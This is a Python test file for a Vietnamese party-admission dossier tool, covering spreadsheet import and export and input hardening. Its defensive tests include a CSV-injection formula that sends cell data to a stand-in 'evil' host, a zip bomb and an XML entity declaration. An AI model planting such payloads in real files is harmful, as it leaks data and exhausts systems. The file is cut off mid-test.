"""Spreadsheets in and out (issue 13, item 3): candidates, and members in progress."""

from __future__ import annotations

import csv
import io
import os
import re
import threading
import unicodedata
import warnings
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path

import attrs
import openpyxl
import pendulum
import pytest
from click.testing import CliRunner

from ketnap import Actor, Dossier, InvalidInput, Organization, Sex, Stage, Step, Workflow, sheets
from ketnap.cli import cli
from ketnap.organizations import Course, OrganizationTree, Quotas, Unit
from ketnap.sheets import (
    COLUMNS,
    COURSE_COLUMNS,
    QUOTA_COLUMNS,
    UNIT_COLUMNS,
    SheetRefused,
    read_dossiers,
    read_setup,
    write_dossiers,
    write_setup,
    write_template,
)
from ketnap.sheets._dossiers import _row_cells
from ketnap.storage import dumps, to_document
from ketnap.terms import party_age_months
from ketnap.testing import lifecycle, make_dossier

MEETING = pendulum.Date(2024, 3, 12)


def candidates(n: int = 3) -> list[Dossier]:
    found = []
    for i in range(n):
        dossier = make_dossier(
            meeting=MEETING,
            id=f"HS-{i:03d}",
            name=f"Nguyễn Văn {chr(65 + i)}",
            organization=Organization(name="Chi bộ Thôn Đông", code="X.1"),
        )
        # What a row holds: the candidate's own facts, nothing gathered later.
        dossier.candidate = type(dossier.candidate)(
            name=dossier.candidate.name,
            birth_date=dossier.candidate.birth_date,
            education=dossier.candidate.education,
            sex=Sex.FEMALE if i % 2 else None,
            youth_union_member=True,
            ethnic_minority=bool(i % 2),
        )
        dossier.sponsors, dossier.certificates, dossier.documents = [], [], {}
        dossier.helper = dossier.union_introduction = dossier.verification = None
        found.append(dossier)
    return found


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_export_then_import_gives_equal_dossiers(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"danh-sach{suffix}"
    written = candidates()
    assert write_dossiers(path, written) == 3
    read = read_dossiers(path, workflow=Workflow())
    assert [to_document(d) for d in read] == [to_document(d) for d in written]


def test_every_bad_cell_is_reported_with_its_place_and_nothing_is_read(tmp_path: Path) -> None:
    path = tmp_path / "ds.csv"
    write_dossiers(path, candidates(2))
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    rows[1][2] = "31/02/1999"  # no such day
    rows[2][4] = "tiến sĩ"  # not an education level
    rows[2][8] = "có lẽ"  # not có / không
    with path.open("w", encoding="utf-8-sig", newline="") as file:
        csv.writer(file).writerows(rows)
    with pytest.raises(SheetRefused) as refused:
        read_dossiers(path, workflow=Workflow())
    places = [(p.row, p.column) for p in refused.value.problems]
    assert places == [(2, "Ngày sinh"), (3, "Trình độ học vấn"), (3, "Đoàn viên")]
    assert "dòng 2, cột «Ngày sinh»" in refused.value.problems[0].text("vi")
    assert "no such day" in refused.value.problems[0].text("en")
    assert "ngày không có trong lịch" in refused.value.problems[0].text("vi")
    assert "Primary school completed" in refused.value.problems[1].text("en")


def test_dates_as_offices_write_them_and_as_workbook_cells(tmp_path: Path) -> None:
    path = tmp_path / "ds.xlsx"
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append([c.vi for c in COLUMNS])
    born = pendulum.datetime(1998, 5, 20).naive()  # a date cell, as a workbook stores it
    row = ["HS-9", "Lê Thị Mai", born, "Nữ", "Trung học phổ thông", "X.1", "Chi bộ 1"]
    sheet.append([*row, "09/01/2023", "có", "", "", ""])
    workbook.save(path)
    (dossier,) = read_dossiers(path, workflow=Workflow())
    assert dossier.candidate.birth_date == pendulum.Date(1998, 5, 20)
    assert dossier.entered_pool_on == pendulum.Date(2023, 1, 9)
    assert dossier.candidate.sex is Sex.FEMALE


def test_a_missing_column_or_a_duplicate_id_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "ds.csv"
    path.write_text("Mã hồ sơ,Họ và tên\nHS-1,An\n", encoding="utf-8")
    with pytest.raises(InvalidInput, match="Ngày sinh"):
        read_dossiers(path, workflow=Workflow())
    write_dossiers(path, [*candidates(1), *candidates(1)])
    with pytest.raises(SheetRefused, match="twice"):
        read_dossiers(path, workflow=Workflow())


def test_the_template_has_the_columns_and_a_guide(tmp_path: Path) -> None:
    path = tmp_path / "mau.xlsx"
    write_template(path)
    workbook = openpyxl.load_workbook(path)
    assert [c.value for c in workbook["Danh sách"][1]] == [c.vi for c in COLUMNS]
    assert workbook["Hướng dẫn"].max_row > len(COLUMNS)
    assert read_dossiers(path, workflow=Workflow()) == []


def test_the_command_line_imports_a_sheet_all_or_nothing(tmp_path: Path) -> None:
    store, path = tmp_path / "s.db", tmp_path / "ds.xlsx"
    write_dossiers(path, candidates())
    runner = CliRunner()
    result = runner.invoke(cli, ["import-sheet", "--store", str(store), str(path), "--lang", "en"])
    assert result.exit_code == 0, result.output
    assert "3 dossiers saved" in result.output
    again = runner.invoke(cli, ["import-sheet", "--store", str(store), str(path)])
    assert again.exit_code == 1
    assert "HS-000 đã có trong kho; chưa lưu gì" in again.output
    assert "--update" in again.output
    assert "--rejects" in again.output
    out = tmp_path / "out"
    exported = runner.invoke(cli, ["export", "--store", str(store), "--out", str(out),
                                   "--sheet", "csv"])  # fmt: skip
    assert exported.exit_code == 0, exported.output
    assert len(read_dossiers(out / "danh-sach.csv", workflow=Workflow())) == 3
    assert runner.invoke(cli, ["template", str(tmp_path / "mau.xlsx")]).exit_code == 0


# --- members in progress: rows that give acts already done -------------------------------------

ADOPTED = pendulum.Date(2026, 1, 5)
HEADER = {column.field: column.vi for column in COLUMNS}


def member_rows(until: str) -> list[dict[str, str]]:
    """Rows of candidates with the dates and numbers of the acts that took them to *until*."""
    workflow = Workflow()
    rows = []
    for dossier in candidates(2):
        row = dict(zip(HEADER.values(), map(str, _row_cells(dossier, COLUMNS)), strict=True))
        for step, on, _actor in lifecycle(dossier, meeting=MEETING, workflow=workflow):
            row[HEADER[f"{step}@on"]] = f"{on:%d/%m/%Y}"
            row[HEADER[f"{step}@reference"]] = f"{len(row)}-NQ/CB"
            if step == Step.HOLD_CEREMONY:
                row[HEADER["decision_received_on"]] = f"{dossier.decision_received_on:%d/%m/%Y}"
            if step == Step.ISSUE_CARD:
                row[HEADER["card_number"]] = str(dossier.card_number)
            if next(t.target for t in workflow.law.process.transitions if t.step == step) == until:
                break
        rows.append(row)
    return rows


def write_rows(path: Path, rows: list[dict[str, str]]) -> Path:
    with path.open("w", encoding="utf-8-sig", newline="") as file:
        writer = csv.DictWriter(file, fieldnames=[c.vi for c in COLUMNS])
        writer.writeheader()
        writer.writerows(rows)
    return path


@pytest.mark.parametrize("until", [Stage.PROBATION, Stage.CARD_ISSUED])
def test_members_in_progress_open_at_their_stage(tmp_path: Path, until: str) -> None:
    path = write_rows(tmp_path / "dang-vien.csv", member_rows(until))
    members = read_dossiers(path, adopted_on=ADOPTED, workflow=Workflow())
    assert {m.stage for m in members} == {until}
    member = members[0]
    assert all(entry.adopted_on == ADOPTED for entry in member.history)
    proposal = next(e for e in member.history if e.step == Step.PROPOSE_ADMISSION)
    # The row holds no vote and no sponsor: taken as held on paper, and said so.
    assert {"vote.branch_admission", "sponsor.count"} <= set(proposal.attested)
    decision = next(e for e in member.history if e.step == Step.DECIDE_ADMISSION)
    assert decision.actor == Actor.COMPETENT_COMMITTEE
    assert decision.reference is not None
    # Party age counts for a recognised member, from the decision.
    age = party_age_months(member, ADOPTED, process=Workflow().law.process)
    assert (age is not None) == (until == Stage.CARD_ISSUED)


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_members_exported_then_imported_are_equal(tmp_path: Path, suffix: str) -> None:
    members = read_dossiers(
        write_rows(tmp_path / "in.csv", member_rows(Stage.CARD_ISSUED)),
        adopted_on=ADOPTED,
        workflow=Workflow(),
    )
    path = tmp_path / f"out{suffix}"
    assert write_dossiers(path, members) == 2
    again = read_dossiers(path, adopted_on=ADOPTED, workflow=Workflow())
    assert [dumps(d) for d in again] == [dumps(d) for d in members]


def test_acts_without_the_adoption_day_are_refused(tmp_path: Path) -> None:
    path = write_rows(tmp_path / "dv.csv", member_rows(Stage.PROBATION))
    with pytest.raises(SheetRefused) as refused:
        read_dossiers(path, workflow=Workflow())
    assert [(p.row, p.column) for p in refused.value.problems] == [
        (2, HEADER["complete_training@on"]),
        (3, HEADER["complete_training@on"]),
    ]


def test_a_failed_condition_names_the_act_and_its_rule(tmp_path: Path) -> None:
    rows = member_rows(Stage.PROBATION)
    rows[1][HEADER["birth_date"]] = f"{MEETING.subtract(years=17):%d/%m/%Y}"
    rows[0][HEADER["endorse@reference"]] = "7-NQ/ĐU"  # a number with no date
    path = write_rows(tmp_path / "dv.csv", rows)
    with pytest.raises(SheetRefused) as refused:
        read_dossiers(path, adopted_on=ADOPTED, workflow=Workflow())
    problems = refused.value.problems
    assert (2, HEADER["endorse@on"]) == (problems[0].row, problems[0].column)
    young = [p for p in problems if p.row == 3]
    assert young[0].column == HEADER["propose_admission@on"]
    assert "age.minimum" in young[0].text("en")
    assert "Chưa đủ 18 tuổi" in young[0].text("vi")


def test_an_act_after_the_adoption_day_is_refused(tmp_path: Path) -> None:
    path = write_rows(tmp_path / "dv.csv", member_rows(Stage.PROBATION))
    with pytest.raises(SheetRefused) as refused:
        read_dossiers(path, adopted_on=MEETING, workflow=Workflow())
    reasons = {(p.text("vi").rsplit(": ", 1)[1], p.text("en").rsplit(": ", 1)[1])
               for p in refused.value.problems}  # fmt: skip
    assert reasons == {("sau ngày tiếp nhận hồ sơ (--adopted-on)", "after the adoption day")}


def test_the_command_line_adopts_members_from_a_sheet(tmp_path: Path) -> None:
    path = write_rows(tmp_path / "dv.csv", member_rows(Stage.PROBATION))
    store = tmp_path / "s.db"
    runner = CliRunner()
    refused = runner.invoke(cli, ["import-sheet", "--store", str(store), str(path)])
    assert refused.exit_code == 1
    assert "cần ngày tiếp nhận hồ sơ" in refused.output
    done = runner.invoke(
        cli, ["import-sheet", "--store", str(store), str(path), "--adopted-on", "2026-01-05"]
    )
    assert done.exit_code == 0, done.output
    due = runner.invoke(
        cli, ["due", "--store", str(store), "--on", "2025-04-30", "--within", "60", "--lang", "en"]
    )
    assert due.exit_code == 0, due.output
    assert "recognition" in due.output.lower()


# --- the tree, quotas and courses --------------------------------------------------------------

TREE = OrganizationTree(
    [
        Unit(code="H", name="Đảng bộ huyện", level="district"),
        Unit(code="DB1", name="Đảng bộ xã 1", level="base_committee", parent="H", may_admit=True),
        Unit(code="DB1.1", name="Chi bộ thôn 1", level="branch", parent="DB1", members=21),
        Unit(code="CB1", name="Chi bộ cơ sở 1", level="base_branch", parent="H", members=15),
    ]
)
QUOTAS = Quotas({("DB1", 2021): 6, ("CB1", 2021): 2})
COURSES = [Course(code="K1", unit="H", opened_on=MEETING, closed_on=MEETING.add(days=4),
                  trainees=70)]  # fmt: skip


@pytest.mark.parametrize("target", ["thiet-lap.xlsx", "csv"])
def test_the_setup_written_as_sheets_reads_back_equal(tmp_path: Path, target: str) -> None:
    written = write_setup(tmp_path / target, tree=TREE, quotas=QUOTAS, courses=COURSES)
    setup = read_setup(*written)
    assert setup.tree is not None
    assert setup.tree.to_data() == TREE.to_data()
    assert setup.quotas is not None
    assert setup.quotas.items() == QUOTAS.items()
    assert setup.courses == COURSES


def write_csv(path: Path, rows: Sequence[Sequence[object]]) -> Path:
    with path.open("w", encoding="utf-8-sig", newline="") as file:
        csv.writer(file).writerows(rows)
    return path


UNIT_HEADER: list[object] = [c.vi for c in UNIT_COLUMNS]


def test_every_bad_row_of_the_tree_is_named(tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "to-chuc.csv",
        [
            UNIT_HEADER,
            ["H", "Huyện", "Đảng bộ huyện", "", "", ""],  # a level by its Vietnamese name
            ["A", "A", "chi bộ thôn", "H", "", ""],  # no such level
            ["B", "B", "base_branch", "H", "mười", ""],  # not a number
            ["C", "C", "base_branch", "H", "-3", "có lẽ"],
        ],
    )
    with pytest.raises(SheetRefused) as refused:
        read_setup(path)
    assert [(p.row, p.column) for p in refused.value.problems] == [
        (3, "Cấp"),
        (4, "Số đảng viên"),
        (5, "Số đảng viên"),
        (5, "Được ủy quyền kết nạp"),
    ]


def test_a_unit_under_an_unknown_parent_is_named_by_its_row(tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "to-chuc.csv",
        [
            UNIT_HEADER,
            ["H", "Huyện", "district", "", "", ""],
            ["A", "A", "base_branch", "X", 3, ""],
        ],
    )
    with pytest.raises(SheetRefused) as refused:
        read_setup(path)
    (problem,) = refused.value.problems
    assert (problem.row, problem.column) == (3, "Mã đơn vị")
    assert "unknown parent" in problem.text("en")


def test_quotas_and_courses_with_problems(tmp_path: Path) -> None:
    quotas = write_csv(
        tmp_path / "chi-tieu.csv",
        [[c.vi for c in QUOTA_COLUMNS], ["CB1", 2021, 2], ["CB1", 2021, 3], ["CB1", 1800, 1]],
    )
    courses = write_csv(
        tmp_path / "lop.csv",
        [[c.vi for c in COURSE_COLUMNS], ["K1", "H", "19/03/2021", "15/03/2021", 70]],
    )
    with pytest.raises(SheetRefused) as refused:
        read_setup(quotas, courses)
    assert [(p.sheet, p.row, p.column) for p in refused.value.problems] == [
        ("chi-tieu", 3, "Mã đơn vị"),
        ("chi-tieu", 4, "Năm"),
        ("lop", 2, "Ngày bế giảng"),
    ]


def test_a_csv_of_no_known_table_is_refused(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "x.csv", [["Cột lạ"], ["1"]])
    with pytest.raises(InvalidInput, match="no table"):
        read_setup(path)


def test_the_template_holds_every_sheet_and_reads_as_nothing(tmp_path: Path) -> None:
    path = tmp_path / "mau.xlsx"
    write_template(path)
    names = openpyxl.load_workbook(path, read_only=True).sheetnames
    assert names == ["Danh sách", "Tổ chức", "Chỉ tiêu", "Lớp bồi dưỡng", "Hướng dẫn", "Danh mục"]
    with pytest.raises(InvalidInput, match="with rows"):
        read_setup(path)


def test_the_command_line_stores_the_setup_from_a_workbook(tmp_path: Path) -> None:
    (book,) = write_setup(tmp_path / "tl.xlsx", tree=TREE, quotas=QUOTAS, courses=COURSES)
    store = tmp_path / "s.db"
    runner = CliRunner()
    done = runner.invoke(cli, ["setup", "--store", str(store), "--sheet", str(book)])
    assert done.exit_code == 0, done.output
    out = tmp_path / "out"
    exported = runner.invoke(
        cli, ["export", "--store", str(store), "--out", str(out), "--setup", "--sheet", "xlsx"]
    )
    assert exported.exit_code == 0, exported.output
    again = read_setup(out / "thiet-lap.xlsx")
    assert again.quotas is not None
    assert again.quotas.items() == QUOTAS.items()
    bad = write_csv(tmp_path / "to-chuc.csv", [UNIT_HEADER, ["H", "Huyện", "tỉnh?", "", "", ""]])
    refused = runner.invoke(cli, ["setup", "--store", str(store), "--sheet", str(bad)])
    assert refused.exit_code == 1
    assert "to-chuc, dòng 2, cột «Cấp»" in refused.output


# --- what a spreadsheet would run: neutralised on the way out (issue 24, item 2) ---------------

FORMULA = '=HYPERLINK("http://evil/?"&B2,"x")'
# A spreadsheet runs a cell starting with any of these (OWASP, "CSV Injection").
LIVE = ("=", "+", "-", "@", "\t", "\r")


def live_cells(path: Path) -> list[str]:
    """Every cell or field of a .csv or .xlsx file a spreadsheet would run as a formula."""
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as file:
            return [field for row in csv.reader(file) for field in row if field.startswith(LIVE)]
    workbook = openpyxl.load_workbook(path)  # not read-only: data_type is the cell's own
    found = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
        or (isinstance(cell.value, str) and (cell.data_type != "s" or cell.value.startswith(LIVE)))
    ]
    workbook.close()
    return found


def named(dossier: Dossier, name: str) -> Dossier:
    dossier.candidate = attrs.evolve(dossier.candidate, name=name)
    return dossier


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_a_name_that_is_a_formula_is_written_as_text_and_reads_back_unchanged(
    tmp_path: Path, suffix: str
) -> None:
    path = tmp_path / f"ds{suffix}"
    names = [FORMULA, "+84 912 345 678", "-1", "@SUM(A1)", "'=already quoted", "'ordinary"]
    written = [named(d, name) for d, name in zip(candidates(len(names)), names, strict=True)]
    write_dossiers(path, written)
    assert live_cells(path) == []
    read = read_dossiers(path, workflow=Workflow())
    assert [d.candidate.name for d in read] == names


@pytest.mark.parametrize("target", ["thiet-lap.xlsx", "csv"])
def test_the_setup_sheets_never_hold_a_live_formula(tmp_path: Path, target: str) -> None:
    tree = OrganizationTree(
        [
            Unit(code="=1+1", name=FORMULA, level="district"),
            Unit(code="@X", name="-Chi bộ", level="base_branch", parent="=1+1", members=-0),
        ]
    )
    quotas = Quotas({("@X", 2021): 3})
    courses = [Course(code="+K", unit="=1+1", opened_on=MEETING, closed_on=MEETING,
                      trainees=5)]  # fmt: skip
    written = write_setup(tmp_path / target, tree=tree, quotas=quotas, courses=courses)
    assert [cell for path in written for cell in live_cells(path)] == []
    again = read_setup(*written)
    assert again.tree is not None
    assert again.tree.to_data() == tree.to_data()
    assert again.quotas is not None
    assert again.quotas.items() == quotas.items()
    assert again.courses == courses


def test_the_template_holds_no_formula(tmp_path: Path) -> None:
    write_template(tmp_path / "mau.xlsx")
    assert live_cells(tmp_path / "mau.xlsx") == []


def test_reports_and_statistics_never_write_a_live_formula(tmp_path: Path) -> None:
    from ketnap import SQLiteStore  # noqa: PLC0415
    from ketnap.derived import facts_for  # noqa: PLC0415
    from ketnap.reports import report  # noqa: PLC0415
    from ketnap.statistics import new_members  # noqa: PLC0415
    from ketnap.testing import walk  # noqa: PLC0415

    tree = OrganizationTree(
        [
            Unit(code="=H", name=FORMULA, level="district"),
            Unit(code="-C", name="@Chi bộ", level="base_branch", parent="=H", members=3),
        ]
    )
    workflow = Workflow()
    dossier = make_dossier(meeting=MEETING, organization=tree.organization("-C"))
    walk(workflow, dossier, meeting=MEETING, until=Stage.PROBATION)
    with SQLiteStore(tmp_path / "s.db", facts=facts_for(workflow.law)) as store:
        store.save(dossier)
        found = report(store, tree, Quotas(), unit="=H", year=2024, on=MEETING.add(months=6))
        form = new_members(store, tree, unit="=H", on=MEETING.add(months=6), law=workflow.law)
    for name, text in {"report.csv": found.to_csv(), "bieu-3.csv": form.to_csv()}.items():
        (tmp_path / name).write_text(text, encoding="utf-8")
        assert live_cells(tmp_path / name) == [], name
    assert live_cells(form.write_xlsx(tmp_path / "bieu-3.xlsx")) == []
    # Counts stay numbers: a field the report writes for a count is never quoted.
    assert "members,3\n" in found.to_csv()


@pytest.mark.parametrize(
    "value", ["=1+1", "+1", "-1", "@A", "\t=1", "\r=1", "'=1", "''+1", "'", "'a", "a=1", ""]
)
def test_an_escaped_text_unescapes_to_itself(value: str) -> None:
    from ketnap.inputs import escape_formula, unescape_formula  # noqa: PLC0415

    escaped = escape_formula(value)
    assert isinstance(escaped, str)
    assert not escaped.startswith(LIVE)
    assert unescape_formula(escaped) == value


# --- what a sheet may hold: bounded before it is read (issue 24, items 4, 5, 7) --------------


def rewritten(
    source: Path,
    target: Path,
    part: str,
    edit: Callable[[bytes], bytes],
    compression: int = zipfile.ZIP_DEFLATED,
) -> Path:
    """*source* with one part's XML replaced by *edit* of it."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", compression) as new:
        for info in old.infolist():
            data = old.read(info)
            new.writestr(info.filename, edit(data) if info.filename == part else data)
    return target


SHEET_XML = "xl/worksheets/sheet1.xml"


def one_row_workbook(tmp_path: Path) -> Path:
    path = tmp_path / "one.xlsx"
    write_dossiers(path, candidates(1))
    return path


def test_a_zip_bomb_is_refused_from_the_directory_before_anything_is_decompressed(
    tmp_path: Path,
) -> None:
    import tracemalloc  # noqa: PLC0415

    from ketnap.inputs import LIMITS  # noqa: PLC0415

    # A sheet part of more than LIMITS.sheet_bytes of repeated XML, compressed to a few
    # hundred KB; written in chunks, so the test holds little of it at once.
    path = tmp_path / "bomb.xlsx"
    source = one_row_workbook(tmp_path)
    chunk = b"<row><c/></row>" * 4096
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            if info.filename != SHEET_XML:
                new.writestr(info.filename, old.read(info))
        with new.open(SHEET_XML, "w", force_zip64=True) as part:
            for _ in range(LIMITS.sheet_bytes // len(chunk) + 1):
                part.write(chunk)
    assert path.stat().st_size < 2_000_000
    tracemalloc.start()
    with pytest.raises(InvalidInput, match="too large to read") as refused:
        read_dossiers(path, workflow=Workflow())
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 5_000_000
    assert refused.value.field == "file"


@pytest.mark.parametrize(
    ("xml", "message"),
    [
        # One row of 11 MB of empty cells took 600 MB in openpyxl.
        (b'<row r="2">' + b"<c/>" * 300 + b"</row>", "more than 256 columns"),
        (b'<row r="2"><c r="XFD2"><v>1</v></c></row>', "more than 256 columns"),
        (b'<row r="1048576"><c r="A1048576"><v>1</v></c></row>', "more than 100,000 rows"),
        (b"<row/>" * 100_002, "more than 100,000 rows"),
        (b'<row r="3"><c r="A3"><is>' + b"<r><t>a</t></r>" * 3000 + b"</is></c></row>",
         "XML elements"),
    ],
    ids=["cells", "a far column", "a far row", "rows", "a row's elements"],
)  # fmt: skip
def test_a_sheet_over_the_limits_is_refused_before_openpyxl_reads_it(
    tmp_path: Path, xml: bytes, message: str
) -> None:
    source = one_row_workbook(tmp_path)
    path = rewritten(
        source,
        tmp_path / "big.xlsx",
        SHEET_XML,
        lambda data: data.replace(b"</sheetData>", xml + b"</sheetData>"),
    )
    with pytest.raises(InvalidInput, match=message):
        read_dossiers(path, workflow=Workflow())


def test_parts_held_whole_are_bounded(tmp_path: Path) -> None:
    # 62 MB of styles took 1.7 GB in openpyxl: what it holds whole is counted. Stored,
    # not compressed: the compression check would refuse it first.
    source = one_row_workbook(tmp_path)
    styles = b'<xf numFmtId="0" fontId="0" fillId="0" borderId="0"/>' * 100_001
    path = rewritten(
        source, tmp_path / "styles.xlsx", "xl/styles.xml",
        lambda data: data.replace(b"</cellXfs>", styles + b"</cellXfs>"), zipfile.ZIP_STORED,
    )  # fmt: skip
    with pytest.raises(InvalidInput, match="XML elements besides its cells"):
        read_dossiers(path, workflow=Workflow())


def test_a_workbook_declaring_a_document_type_is_refused(tmp_path: Path) -> None:
    source = one_row_workbook(tmp_path)
    laughs = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">]>'
    path = rewritten(source, tmp_path / "dtd.xlsx", SHEET_XML, lambda data: laughs + data)
    with pytest.raises(InvalidInput, match="document type"):
        read_dossiers(path, workflow=Workflow())


def test_a_dimension_claiming_a_million_rows_reads_only_the_rows_there(tmp_path: Path) -> None:
    source = one_row_workbook(tmp_path)
    path = rewritten(
        source, tmp_path / "claims.xlsx", SHEET_XML,
        lambda data: re.sub(rb"<dimension [^>]*/>", b'<dimension ref="A1:XFD1048576"/>', data),
    )  # fmt: skip
    assert len(read_dossiers(path, workflow=Workflow())) == 1


@pytest.mark.parametrize(
    "content",
    [b"", b"PK\x03\x04 truncated", b"not a zip at all", bytes(range(256)) * 8],
    ids=["empty", "truncated", "text", "binary"],
)
def test_a_file_that_is_no_workbook_is_one_error(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "x.xlsx"
    path.write_bytes(content)
    with pytest.raises(InvalidInput, match=r"not a readable \.xlsx workbook"):
        read_dossiers(path, workflow=Workflow())


@pytest.mark.parametrize(
    ("cell", "reason"),
    [
        (b'<c r="C2"><v>NaN</v></c>', "cannot be read"),
        (b'<c r="C2" t="d"><v>not-a-date</v></c>', "cannot be read"),
        (b'<c r="C2"><v>' + b"9" * 5000 + b"</v></c>", "cannot be read"),
        (b'<c r="C2"><v>1e400</v></c>', "not a date"),
    ],
    ids=["NaN", "a malformed date", "5,000 digits", "infinite"],
)
def test_a_cell_openpyxl_cannot_parse_names_its_row(
    tmp_path: Path, cell: bytes, reason: str
) -> None:
    source = one_row_workbook(tmp_path)
    path = rewritten(
        source, tmp_path / "cell.xlsx", SHEET_XML,
        lambda data: re.sub(rb'<c r="C2".*?</c>', cell, data, count=1),
    )  # fmt: skip
    with pytest.raises(SheetRefused) as refused:
        read_dossiers(path, workflow=Workflow())
    (problem,) = refused.value.problems
    assert (problem.sheet, problem.row) == ("Danh sách", 2)
    assert reason in problem.text("en")


def test_what_openpyxl_warns_about_is_read_without_a_warning(tmp_path: Path) -> None:
    # openpyxl warns that it drops a sheet's data validation; under filterwarnings = error
    # the warning was an exception, and on a terminal a line a clerk cannot act on.
    extension = (
        b'<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}" '
        b'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main">'
        b"<x14:dataValidations/></ext></extLst></worksheet>"
    )
    path = rewritten(
        one_row_workbook(tmp_path), tmp_path / "validated.xlsx", SHEET_XML,
        lambda data: data.replace(b"</worksheet>", extension),
    )  # fmt: skip
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert len(read_dossiers(path, workflow=Workflow())) == 1


def write_text(path: Path, rows: Sequence[Sequence[object]], encoding: str) -> Path:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    text = out.getvalue()
    path.write_bytes(cp1258(text) if encoding == "cp1258" else text.encode(encoding))
    return path


def cp1258(text: str) -> bytes:
    """*text* as Excel writes it on Vietnamese Windows: tone marks often combining."""
    out = bytearray()
    for char in text:
        parts = unicodedata.normalize("NFD", char)
        tries = [char, parts] + [
            unicodedata.normalize("NFC", parts[0] + parts[i]) + parts[1:i] + parts[i + 1 :]
            for i in range(1, len(parts))
        ]
        out += next(t.encode("cp1258") for t in tries if _encodes(t))
    return bytes(out)


def _encodes(text: str) -> bool:
    try:
        text.encode("cp1258")
    except UnicodeEncodeError:
        return False
    return True


def sheet_rows(n: int = 2) -> list[list[object]]:
    rows: list[list[object]] = [[c.vi for c in COLUMNS]]
    rows += [_row_cells(d, COLUMNS) for d in candidates(n)]
    return rows


@pytest.mark.parametrize(
    ("encoding", "given", "used"),
    [
        ("utf-8-sig", None, "UTF-8"),
        ("utf-16", None, "UTF-16"),  # with its byte-order mark, as Excel's "Unicode" files
        ("utf-16", "cp1258", "UTF-16"),  # the mark wins over a guess
        ("cp1258", "cp1258", "Windows-1258"),
        ("cp1258", "windows-1258", "Windows-1258"),
    ],
)
def test_a_csv_in_the_encodings_offices_use_reads_the_same_dossiers(
    tmp_path: Path, encoding: str, given: str | None, used: str
) -> None:
    expected = [to_document(d) for d in read_dossiers(
        write_text(tmp_path / "a.csv", sheet_rows(), "utf-8"), workflow=Workflow())]  # fmt: skip
    path = write_text(tmp_path / "b.csv", sheet_rows(), encoding)
    assert sheets.csv_encoding(path, given) == used
    read = read_dossiers(path, workflow=Workflow(), encoding=given)
    assert [to_document(d) for d in read] == expected


@pytest.mark.parametrize(
    ("content", "row", "reason"),
    [
        (cp1258, 1, "not UTF-8 text"),
        (lambda text: text.replace("ễ", "e").encode("latin-1", "replace") + b"\xe9", 1,
         "not UTF-8 text"),
        (lambda text: text.encode("utf-16-le"), 1, "UTF-16 without"),  # no byte-order mark
        (lambda text: text.encode() + bytes(range(128, 256)), 4, "not UTF-8 text"),
        (lambda text: text.encode().replace(b"HS-001", b"HS\x00001"), 3, "NUL"),
    ],
    ids=["Windows-1258", "Latin-1", "UTF-16 unmarked", "binary after the rows", "NUL"],
)  # fmt: skip
def test_a_csv_that_is_not_text_in_its_encoding_names_the_row(
    tmp_path: Path, content: Callable[[str], bytes], row: int, reason: str
) -> None:
    out = io.StringIO()
    csv.writer(out).writerows(sheet_rows())
    path = tmp_path / "ds.csv"
    path.write_bytes(content(out.getvalue()))
    with pytest.raises(SheetRefused) as refused:
        read_dossiers(path, workflow=Workflow())
    (problem,) = refused.value.problems
    assert (problem.row, problem.column) == (row, "")
    assert reason in problem.text("en")


@pytest.mark.parametrize("encoding", ["latin-1", "no-such-codec", "rot13"])
def test_an_unknown_encoding_is_refused(tmp_path: Path, encoding: str) -> None:
    path = write_text(tmp_path / "ds.csv", sheet_rows(), "utf-8")
    with pytest.raises(InvalidInput, match="encoding"):
        read_dossiers(path, workflow=Workflow(), encoding=encoding)


@pytest.mark.parametrize(
    ("edit", "reason"),
    [
        (lambda rows: rows[1].__setitem__(1, "A" * 200_000), "longer than 131,072"),
        (lambda rows: rows[1].extend([""] * 300), "more than 256 columns"),
        (lambda rows: rows[1].__setitem__(1, "A" * 5000), "longer than 1,000"),
    ],
    ids=["a cell over the csv module's bound", "too many columns", "a long name"],
)
def test_a_csv_row_over_the_limits_is_named(
    tmp_path: Path, edit: Callable[[list[list[object]]], None], reason: str
) -> None:
    rows = sheet_rows()
    edit(rows)
    path = write_text(tmp_path / "ds.csv", rows, "utf-8")
    with pytest.raises(SheetRefused) as refused:
        read_dossiers(path, workflow=Workflow())
    (problem,) = refused.value.problems
    assert problem.row == 2
    assert reason in problem.text("en")


def test_a_csv_of_more_rows_than_the_limit_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from ketnap import _sheet_files  # noqa: PLC0415
    from ketnap.inputs import LIMITS  # noqa: PLC0415

    monkeypatch.setattr(_sheet_files, "LIMITS", attrs.evolve(LIMITS, sheet_rows=2))
    path = write_text(tmp_path / "ds.csv", sheet_rows(3), "utf-8")
    with pytest.raises(SheetRefused, match="more than 2 rows"):
        read_dossiers(path, workflow=Workflow())


@pytest.mark.parametrize(
    "date",
    [
        "٢٠/٠٥/١٩٩٨",
        "２０/０５/１９９８",
        "99999999999999999999/01/1999",
        "20/5/01998",
        "020/05/1998",
    ],
)
def test_a_date_takes_ascii_digits_only(tmp_path: Path, date: str) -> None:
    rows = sheet_rows(1)
    rows[1][2] = date
    with pytest.raises(SheetRefused) as refused:
